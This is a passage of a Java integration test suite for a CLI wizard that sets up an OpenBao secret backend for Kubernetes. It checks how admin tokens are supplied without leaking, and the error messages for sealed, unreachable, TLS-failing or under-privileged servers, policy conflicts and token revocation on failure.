    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .isEqualTo(
            "error: No OpenBao admin token and no terminal to ask on; pass --admin-token-file FILE"
                + " (or - for stdin) or set BAO_TOKEN.\n");
    assertNothingCreated();
  }

  @Test
  void theAdminTokenIsTakenFromStdinTheEnvironmentTheFlagOrAPromptWithoutLeaking() {
    String admin = fixture.adminToken();
    CliHarness.Result fromStdin =
        fixture.run(
            new CliHarness().stdin(admin + "\n"),
            fixture.wizard("from-stdin", "--admin-token-file", "-"));
    CliHarness.Result fromEnvironment =
        fixture.run(
            new CliHarness().environment(Map.of("BAO_TOKEN", admin)), fixture.wizard("from-env"));
    ScriptedTerminal terminal = ScriptedTerminal.answering(admin);
    CliHarness.Result fromPrompt =
        fixture.run(new CliHarness().terminal(terminal), fixture.wizard("from-prompt"));
    CliHarness.Result fromFlag =
        fixture.run(new CliHarness(), fixture.wizard("from-flag", "--admin-token", admin));

    for (CliHarness.Result result : List.of(fromStdin, fromEnvironment, fromPrompt, fromFlag)) {
      assertThat(result.exitCode()).as(result.toString()).isZero();
    }
    assertThat(terminal.prompts()).containsExactly("OpenBao admin token (not echoed): ");
    assertThat(fromFlag.stderr())
        .isEqualTo(
            "warning: --admin-token leaves the token in your shell history and the process list;"
                + " prefer --admin-token-file or BAO_TOKEN.\n");
    assertThat(fromStdin.stderr()).isEmpty();
  }

  @Test
  void withoutUrlOrTokenFlagsTheWizardAsksOnTheTerminal() {
    List<String> args =
        new ArrayList<>(List.of("create", "secretbackend", "bao", "--type", "openbao", "--wizard"));
    args.addAll(List.of(kube.flags(fixture.namespace)));
    ScriptedTerminal terminal =
        ScriptedTerminal.answering(fixture.bao.address().toString(), fixture.adminToken());

    CliHarness.Result result =
        fixture.run(new CliHarness().terminal(terminal), args.toArray(String[]::new));

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(terminal.prompts())
        .containsExactly(
            "OpenBao address (e.g. https://bao.example.com:8200): ",
            "OpenBao admin token (not echoed): ");
    assertThat(backend("bao").getSpec().getOpenbao().getAddress())
        .isEqualTo(fixture.bao.address().toString());
  }

  @Test
  void aSealedOpenBaoIsRefusedWithWhatToDo() {
    fixture.bao.seal();

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stdout()).contains("[1/8] OpenBao health ... failed");
    assertThat(result.stderr())
        .isEqualTo(
            "error: OpenBao at "
                + fixture.bao.address()
                + " is sealed; unseal it ('bao operator unseal') and run the wizard again.\n");
    assertNothingCreated();
  }

  @Test
  void anUninitialisedOpenBaoGetsItsOwnMessage() {
    fixture.bao.setInitialized(false);
    CliHarness.Result uninitialised = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(uninitialised.exitCode()).isEqualTo(1);
    assertThat(uninitialised.stderr()).contains("is not initialised; initialise and unseal it");
    assertNothingCreated();
  }

  @Test
  void behindALoadBalancerWithStandbysTheWizardSucceedsWhicheverNodeAnswers() {
    fixture.close();
    fixture =
        new WizardFixture(kube, StandInOptions.defaults().standbys(2, Duration.ofMillis(500)));

    // Each run writes its role and mints through it at once, and the last one enables a mount
    // and writes to it at once: a standby has received neither yet.
    List<CliHarness.Result> runs = new ArrayList<>();
    for (String backend : List.of("bao-a", "bao-b", "bao-c")) {
      runs.add(fixture.runWithRootToken(new CliHarness(), backend));
    }
    runs.add(fixture.runWithRootToken(new CliHarness(), "bao-d", "--mount", "fresh-kv"));

    assertThat(runs).allSatisfy(run -> assertThat(run.exitCode()).as(run.toString()).isZero());
    assertThat(runs.get(3).stdout()).contains("fresh-kv");
    assertThat(runs)
        .extracting(CliHarness.Result::stdout)
        .anyMatch(out -> out.contains("[1/8] OpenBao health ... standby (it forwards writes"));
  }

  @Test
  void behindALoadBalancerAMintedTokenRevokedByItsAccessorIsRevokedWhicheverNodeAnswers() {
    fixture.close();
    fixture =
        new WizardFixture(kube, StandInOptions.defaults().standbys(2, Duration.ofMillis(500)));
    fixture.bao.faults().add(Fault.on("POST", "secret/data/mcpctl/.*").respond(500).build());
    fixture.bao.faults().add(Fault.on("POST", "auth/token/revoke-self").respond(500).build());

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .startsWith("Cleaned up: the token minted in this run was revoked.\n");
    assertThat(mintedTokens())
        .as("a standby that has not received the token finds none behind its accessor")
        .isEmpty();
  }

  @Test
  void anUnreachableOpenBaoIsReportedWithTheAddressToCheck() throws Exception {
    int closedPort;
    try (ServerSocket socket = new ServerSocket(0)) {
      closedPort = socket.getLocalPort();
    }
    String url = "http://127.0.0.1:" + closedPort;
    String[] args =
        fixture.wizard(
            "bao", "--admin-token-file", fixture.secretFile("t", fixture.adminToken()).toString());
    args[7] = url;

    CliHarness.Result result = fixture.run(new CliHarness(), args);

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .startsWith("error: Could not reach OpenBao at " + url + " (")
        .endsWith("); check --url and that OpenBao is running, then run the wizard again.\n");
    assertNothingCreated();
  }

  @Test
  void aWrongAdminTokenIsRejectedAtTheCapabilityStep() {
    String wrong = "s.ThisTokenWasNeverIssuedAnywhere";

    CliHarness.Result result =
        fixture.run(
            new CliHarness(),
            fixture.wizard(
                "bao", "--admin-token-file", fixture.secretFile("wrong", wrong).toString()));

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stdout()).contains("[2/8] Admin token capabilities ... failed");
    assertThat(result.stderr())
        .isEqualTo(
            "error: OpenBao rejected the admin token (it is unknown, expired or revoked); check the"
                + " token and run the wizard again.\n");
    LeakCheck.of(wrong).assertNotIn(result);
    assertNothingCreated();
  }

  @Test
  void anAdminTokenLackingACapabilityIsNamedWithThePath() {
    OpenBaoClient root = fixture.root();
    root.writePolicy(
        "half-admin",
        """
        path "sys/mounts/*" { capabilities = ["read", "update"] }
        path "sys/policies/acl/*" { capabilities = ["read"] }
        path "auth/token/roles/*" { capabilities = ["create", "read", "update"] }
        path "auth/token/create/*" { capabilities = ["update"] }
        """);
    VaultToken halfAdmin =
        root.createToken(TokenCreateRequest.builder().policies(List.of("half-admin")).build())
            .clientToken();

    CliHarness.Result result =
        fixture.run(
            new CliHarness(),
            fixture.wizard(
                "bao",
                "--admin-token-file",
                fixture.secretFile("half", halfAdmin.reveal()).toString()));

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .isEqualTo(
            "error: The admin token lacks update on sys/policies/acl/"
                + policy()
                + "; use a token whose"
                + " policies grant these, then run the wizard again.\n");
    assertThat(root.readPolicy(policy())).isEmpty();
    LeakCheck.of(halfAdmin.reveal()).assertNotIn(result);
    assertNothingCreated();
  }

  @Test
  void aKvVersionOneMountIsRefused() throws Exception {
    mountKvVersionOne("legacy");

    CliHarness.Result result =
        fixture.runWithRootToken(new CliHarness(), "bao", "--mount", "legacy");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stdout()).contains("[3/8] KV v2 mount legacy/ ... failed");
    assertThat(result.stderr())
        .isEqualTo(
            "error: The mount legacy/ is KV version 1, which would store secrets under literal"
                + " 'data/' keys; upgrade it ('bao kv enable-versioning legacy/') or choose another"
                + " --mount.\n");
    assertThat(fixture.root().readPolicy(policy()))
        .as("nothing after the mount step ran")
        .isEmpty();
    assertNothingCreated();
  }

  @Test
  void anAbsentMountIsCreatedAsKvVersionTwo() {
    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao", "--mount", "mcp");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout()).contains("[3/8] KV v2 mount mcp/ ... created (KV v2)");
    assertThat(fixture.root().readMount("mcp").orElseThrow().kind())
        .isEqualTo(io.mcpctl.openbao.MountKind.KV_V2);
  }

  @Test
  void anUnsafeExistingRoleIsRefusedNamingTheSetting() {
    fixture
        .root()
        .writeTokenRole(
            new TokenRole(
                role(),
                List.of(policy()),
                List.of(),
                false,
                true,
                Duration.ofHours(720),
                Duration.ZERO,
                "service",
                "",
                false,
                0));

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stdout()).contains("[5/8] Token role " + role() + " ... failed");
    assertThat(result.stderr())
        .startsWith("error: Token role " + role() + " exists but is unsafe (orphan): ")
        .contains("orphan=false")
        .endsWith(
            "pick another --token-role, then run the wizard again.\n"
                + "note: this run created policy "
                + policy()
                + " in OpenBao and leaves it there; running the wizard again uses it; 'bao policy"
                + " delete "
                + policy()
                + "' removes the policy.\n");
    assertThat(mintedTokens()).as("nothing minted through an unsafe role").isEmpty();
    assertNothingCreated();
  }

  @Test
  void aDifferentExistingPolicyIsShownAsADiffAndKeptWithoutYes() {
    String wanted =
        NarrowPolicy.hcl(NarrowAccess.forBackend(fixture.namespace, "bao", "secret", "mcpctl"));
    String existing =
        wanted.replace(
            "capabilities = [\"create\", \"read\", \"update\", \"delete\"]",
            "capabilities = [\"create\", \"read\", \"update\", \"delete\", \"sudo\"]");
    fixture.root().writePolicy(policy(), existing);

    CliHarness.Result refused = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(refused.exitCode()).isEqualTo(1);
    assertThat(refused.stdout())
        .contains(
            "[4/8] Policy "
                + policy()
                + " ...\n"
                + "      differs from what mcpctl needs (- existing, + wanted):\n")
        .contains(
            "        path \"secret/data/mcpctl/"
                + fixture.namespace
                + """
                /*" {
                      -   capabilities = ["create", "read", "update", "delete", "sudo"]
                      +   capabilities = ["create", "read", "update", "delete"]
                        }
                """)
        .contains("      -> failed");
    assertThat(refused.stderr())
        .isEqualTo(
            "error: Policy "
                + policy()
                + " exists with different rules (diff above); run again with --yes"
                + " to overwrite it, or pick another --policy-name.\n");
    assertThat(fixture.root().readPolicy(policy()).orElseThrow().policy()).isEqualTo(existing);
    assertNothingCreated();

    ScriptedTerminal terminal = ScriptedTerminal.answering("y");
    CliHarness.Result confirmed =
        fixture.runWithRootToken(new CliHarness().terminal(terminal), "bao");
    assertThat(confirmed.exitCode()).as(confirmed.toString()).isZero();
    assertThat(terminal.prompts()).containsExactly("Overwrite policy " + policy() + "? [y/N] ");
    assertThat(confirmed.stdout()).contains("      -> overwritten");
    assertThat(fixture.root().readPolicy(policy()).orElseThrow().policy()).isEqualTo(wanted);
  }

  @Test
  void withYesADifferentPolicyIsOverwrittenWithoutAsking() {
    fixture
        .root()
        .writePolicy(policy(), "path \"secret/data/other/*\" {\n  capabilities = [\"read\"]\n}\n");
    ScriptedTerminal terminal = ScriptedTerminal.answering();

    CliHarness.Result result =
        fixture.runWithRootToken(new CliHarness().terminal(terminal), "bao", "--yes");

    assertThat(result.exitCode()).as(result.toString()).isZero();
    assertThat(result.stdout())
        .contains("      overwriting (--yes)")
        .contains("      -> overwritten");
    assertThat(terminal.prompts()).isEmpty();
  }

  @Test
  void aFailureAfterTheMintRevokesTheMintedTokenAndLeavesNothingBehind() {
    fixture.bao.faults().add(Fault.on("POST", "secret/data/mcpctl/.*").respond(500).build());

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stdout())
        .contains("[6/8] First token ... minted")
        .contains("[7/8] Verify the token ... failed");
    assertThat(result.stderr())
        .startsWith("Cleaned up: the token minted in this run was revoked.\n")
        .contains("error: Verifying the token failed at the KV round trip");
    assertThat(mintedTokens()).as("the minted token is revoked").isEmpty();
    assertThat(fixture.bao.requestLog().entries())
        .extracting(RequestRecord::path)
        .contains("/v1/auth/token/revoke-self");
    assertNothingCreated();
  }

  @Test
  void aSecretMcpctlDoesNotManageIsNeverOverwritten() {
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName("bao-token")
                .endMetadata()
                .addToStringData("token", "someone-elses")
                .build())
        .create();

    CliHarness.Result result = fixture.runWithRootToken(new CliHarness(), "bao");

    assertThat(result.exitCode()).isEqualTo(1);
    assertThat(result.stderr())
        .contains(
            "Secret bao-token exists in namespace "
                + fixture.namespace
                + " but is not managed by mcpctl");
    assertThat(fixture.bao.requestLog().entries())
        .as("refused before OpenBao is contacted")
        .isEmpty();
  }

  @Test
  void aTlsFailureSaysToPassTheCaAndWithTheCaEverythingWorks() {
    try (WizardFixture tls = new WizardFixture(kube, StandInOptions.defaults().tls(true))) {
      CliHarness.Result untrusted = tls.runWithRootToken(new CliHarness(), "bao");
      Path caFile = tls.secretFile("ca.pem", tls.bao.caCertificatePem().orElseThrow());
      CliHarness.Result trusted =
          tls.runWithRootToken(new CliHarness(), "bao", "--ca-file", caFile.toString());

      assertThat(untrusted.exitCode()).isEqualTo(1);
      assertThat(untrusted.stderr())
          .startsWith("error: The TLS handshake with OpenBao at " + tls.bao.address() + " failed (")
          .endsWith(
              "pass --ca-file with the CA that signed its certificate, or"
                  + " --insecure-skip-tls-verify for a test server.\n");
      assertThat(trusted.exitCode()).as(trusted.toString()).isZero();
      assertThat(trusted.stdout()).contains("Secret bao-ca created, Secret bao-token created");
      SecretBackend backend =
          client.resources(SecretBackend.class).inNamespace(tls.namespace).withName("bao").get();
      assertThat(backend.getSpec().getOpenbao().getTls().getCaSecretRef().getName())
          .isEqualTo("bao-ca");
      assertThat(
              BackendObjects.decoded(
                  client.secrets().inNamespace(tls.namespace).withName("bao-ca").get(), "ca.crt"))
          .contains(tls.bao.caCertificatePem().orElseThrow());
      tls.assertAdminTokenLeakedNowhere();
    }
  }

  private void mountKvVersionOne(String path) throws Exception {
    HttpResponse<String> response =
        HttpClient.newHttpClient()
            .send(
                HttpRequest.newBuilder(URI.create(fixture.bao.address() + "/v1/sys/mounts/" + path))
                    .header("X-Vault-Token", fixture.adminToken())
                    .POST(
                        HttpRequest.BodyPublishers.ofString(
                            "{\"type\":\"kv\",\"options\":{\"version\":\"1\"}}"))
                    .build(),
                HttpResponse.BodyHandlers.ofString());
    assertThat(response.statusCode()).isEqualTo(204);
  }

  private void labelledSecret(String name, String backend) {
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName(name)
                .addToLabels(SecretBackend.BACKEND_LABEL, backend)
                .endMetadata()
                .addToStringData("key", "value-of-" + name)
                .build())
        .create();
  }

  /** The token Secret as an mcpctl before bound token Secrets wrote it: Opaque, labelled only. */
  private Secret asAnOlderMcpctlWroteIt(Secret bound) {
    client.secrets().inNamespace(fixture.namespace).withName("bao-token").delete();
    return client
        .secrets()
        .inNamespace(fixture.namespace)
        .resource(
            new SecretBuilder()
                .withNewMetadata()
                .withName("bao-token")
                .addToLabels(SecretBackend.MANAGED_BY_LABEL, SecretBackend.MANAGED_BY_VALUE)
                .endMetadata()
                .withType("Opaque")
                .withData(bound.getData())
                .build())
        .create();
  }

  /** Binds Secret bao-token to {@code address}, as whoever may edit Secrets could. */
  private void boundTo(String address, Map<String, String> stringData) {
    client
        .secrets()
        .inNamespace(fixture.namespace)
        .withName("bao-token")
        .edit(
            s ->
                new SecretBuilder(s)
                    .editMetadata()
                    .addToAnnotations(TokenSecretBinding.ADDRESS_ANNOTATION, address)
                    .endMetadata()
                    .addToStringData(stringData)
                    .build());
  }

  /** Sets the backend's rotation timing as a person editing it by hand would. */
  private void tuneRotation(String interval, String jitter, String revokeGracePeriod) {
    editBackend(
        "bao",
        backend -> {
          RotationSpec rotation = backend.getSpec().getOpenbao().getAuth().getRotation();
          rotation.setInterval(interval);
          rotation.setJitter(jitter);
          rotation.setRevokeGracePeriod(revokeGracePeriod);
        });
  }

  /**
   * SecretBackend bao as an earlier run or someone editing it left it, minting through {@code
   * role}.
   */
  private void existingBackendRotatingThrough(String role) {
    client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .resource(
            BackendObjects.backend(
                fixture.namespace,
                "bao",
                BackendObjects.openBaoSpec(
                    new BackendNames("bao"),
                    new BackendObjects.OpenBaoTarget(
                        fixture.bao.address().toString(), "secret", "mcpctl", false, false),
                    Optional.of(new Rotation(role, "24h", "10m", "2m")),
                    true)))
        .create();
  }

  private RotationSpec rotation() {
    return rotation("bao");
  }

  private RotationSpec rotation(String name) {
    return backend(name).getSpec().getOpenbao().getAuth().getRotation();
  }

  /** The policy the wizard writes for backend bao in this test's namespace. */
  private String policy() {
    return NarrowAccess.defaultPolicyName(fixture.namespace, "bao");
  }

  private String role() {
    return NarrowAccess.defaultRoleName(fixture.namespace, "bao");
  }

  private SecretBackend backend(String name) {
    return client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .withName(name)
        .get();
  }

  private Secret secret(String name) {
    return client.secrets().inNamespace(fixture.namespace).withName(name).get();
  }

  /** Live tokens minted through a token role, as the wizard mints them. */
  private void editBackend(String name, Consumer<SecretBackend> change) {
    client
        .resources(SecretBackend.class)
        .inNamespace(fixture.namespace)
        .withName(name)
        .edit(
            backend -> {
              change.accept(backend);
              return backend;
            });
  }

  private List<TokenSnapshot> mintedTokens() {
    return fixture.bao.liveTokens().stream().filter(token -> token.role().isPresent()).toList();
  }

  private void assertNothingCreated() {
    assertThat(
            client.resources(SecretBackend.class).inNamespace(fixture.namespace).list().getItems())
        .extracting(b -> b.getMetadata().getName())
        .doesNotContain("bao");
    assertThat(secret("bao-token")).isNull();
    assertThat(mintedTokens()).isEmpty();
  }
}
